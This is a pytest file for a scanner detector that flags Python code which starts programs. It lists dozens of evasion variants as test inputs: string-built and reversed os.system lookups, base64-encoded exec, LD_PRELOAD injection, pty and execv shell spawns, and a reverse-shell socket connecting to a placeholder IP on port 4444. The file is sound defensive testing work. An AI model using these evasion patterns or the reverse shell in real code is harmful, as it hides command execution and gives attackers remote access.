"""PYC001: programs that code starts, under every name a program can be started by."""

from __future__ import annotations

import pytest

from code_samples import HARMLESS, code_findings, fails
from modelkeep.core import Severity
from modelkeep.scan.python_command import DETECTOR

BAD = [
    'import sys\nsys._getframe().f_builtins["__import__"]("os").system("true")',
    'import sys\nsys.modules.get("os").system("true")',
    'import os\nos.__getattribute__("sys" + "tem")("true")',
    'import os\nmatch os.system:\n    case f: f("true")',
    'def f(x: __import__("os").system("true")): pass',
    'x: __import__("os").system("true") = 1',
    'import subprocess\nsubprocess.run(["nvidia-smi"], env={"LD_PRELOAD": "x.so"})',
    'import pydoc\npydoc.pipepager("x", "true")',
    'import subprocess\nsubprocess.run(["gcc", "-wrapper", "sh,-c,true", "x.c"])',
    'import os\nos.system("true")',
    'import os as o\no.system("true")',
    'from os import system\nsystem("true")',
    'from os import system as s\nr = s\nr("true")',
    'from os import *\nsystem("true")',
    'import subprocess\nsubprocess.Popen("true", shell=True)',
    'from subprocess import run as r\nr(["true"])',
    'import subprocess\nsubprocess.run(["git", "clone", "https://x/y"])',
    'import subprocess\nsubprocess.run("nvidia-smi; true", shell=True)',
    '__import__("os").system("true")',
    '__import__("o" + "s").popen("true")',
    'import importlib\nimportlib.import_module("os").system("true")',
    'getattr(__import__("os"), "sys" + "tem")("true")',
    'import os\ngetattr(os, "metsys"[::-1])("true")',
    'import os\nvars(os)["system"]("true")',
    'import os\nos.__dict__["sys" + "tem"]("true")',
    'import sys\nsys.modules["os"].system("true")',
    'import torch\ntorch.os.system("true")',
    'import posix\nposix.system("true")',
    'import pty\npty.spawn("/bin/sh")',
    'class A:\n    import os\n    os.system("true")',
    'def f(a=__import__("os").system("true")): pass',
    "import os\n@os.system\nclass A: pass",
    '[__import__("os").system(c) for c in ["true"]]',
    'import os\nlist(map(os.system, ["true"]))',
    'import os, threading\nthreading.Thread(target=os.system, args=("true",)).start()',
    'import os, atexit\natexit.register(os.system, "true")',
    'import os, functools\nfunctools.partial(os.system, "true")()',
    '(lambda: __import__("os").system("true"))()',
    'import os\nx = {"run": os.system}\nx["run"]("true")',
    "exec(\"import os; os.system('true')\")",
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgidHJ1ZSIp"))',
    (
        "import os\n"
        "if True:\n"
        "    try:\n"
        '        os.system("true")\n'
        "    except Exception:\n"
        "        pass"
    ),
    (
        "class M:\n"
        "    def __init__(self):\n"
        "        import os\n"
        "        self.o = os\n"
        "    def forward(self, x):\n"
        '        self.o.system("true")'
    ),
    'import ctypes\nctypes.CDLL(None).system(b"true")',
    'import asyncio\nasyncio.run(asyncio.create_subprocess_shell("true"))',
    'import os\nwhile True:\n    os.execv("/bin/sh", ["sh"])',
    (
        "import socket, os\n"
        "s = socket.socket()\n"
        's.connect(("192.0.2.1", 4444))\n'
        "os.dup2(s.fileno(), 0)"
    ),
    (
        "import subprocess, sys\n"
        'subprocess.check_call([sys.executable, "-m", "pip", "install", "x"])'
    ),
    'import os\nprint "broken"\nos.system("true")',
    'def wrap(f, x):\n    return f(x)\nimport os\nwrap(os.system, "true")',
    'x = 1 if (y := __import__("os")) else 2\ny.system("true")',
    'get_ipython().system("true")',
    '"".join(str(__import__("os").system("true")) for _ in "a")',
    'import os\nwith os.popen("true") as p:\n    p.read()',
    "def handle(data, context):\n    import os\n    os.system(data)",
    'from torch.utils.collect_env import run\nrun("true")',
    'import os\nassert os.system("true") == 0',
    'import os\nmatch 1:\n    case 1:\n        os.system("true")',
]


@pytest.mark.parametrize("text", BAD)
def test_it_is_found(text: str) -> None:
    assert fails(DETECTOR, text)


@pytest.mark.parametrize(
    "text",
    [
        'import os\nos.path.join("a", "b")',
        "import platform\nplatform.system()",
        'import subprocess\nsubprocess.run(["nvidia-smi"])',
        'import subprocess\nsubprocess.check_output("git rev-parse HEAD", shell=True)',
        "model.system = 1",
        (
            "import subprocess\n"
            "def f(p: subprocess.Popen) -> None: ...\n"
            "isinstance(1, subprocess.Popen)"
        ),
        'def run(x): return x\nrun("true")',
        'text = "os.system(\'true\')"  # os.system("true")',
        (
            "import subprocess\n"
            'proc = subprocess.Popen(["ffmpeg", "-i", "pipe:0"], stdin=subprocess.P'
            "IPE)"
        ),
        'if __name__ == "__main__":\n    import os\n    os.system("true")',
    ],
)
def test_it_is_not_confused_with(text: str) -> None:
    assert not fails(DETECTOR, text)


@pytest.mark.parametrize("name", HARMLESS)
def test_code_of_honest_models_does_not_fail(name: str) -> None:
    assert not fails(DETECTOR, HARMLESS[name], name)


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ('import os\nos.system("true")', Severity.CRITICAL),
        ('import os\ndef forward(x):\n    os.system("true")', Severity.CRITICAL),
        ('import os\ndef other(x):\n    os.system("true")', Severity.HIGH),
        ('import os\ndef other(x):\n    os.system("true")\nother(1)', Severity.CRITICAL),
        ('import subprocess\nsubprocess.run("nvidia-smi")', Severity.MEDIUM),
        ('if __name__ == "__main__":\n    import os\n    os.system("true")', Severity.MEDIUM),
    ],
)
def test_when_it_runs_decides_how_bad_it_is(text: str, severity: Severity) -> None:
    (finding,) = code_findings(DETECTOR, text)
    assert finding.severity is severity
    assert finding.evidence["line"] in finding.message
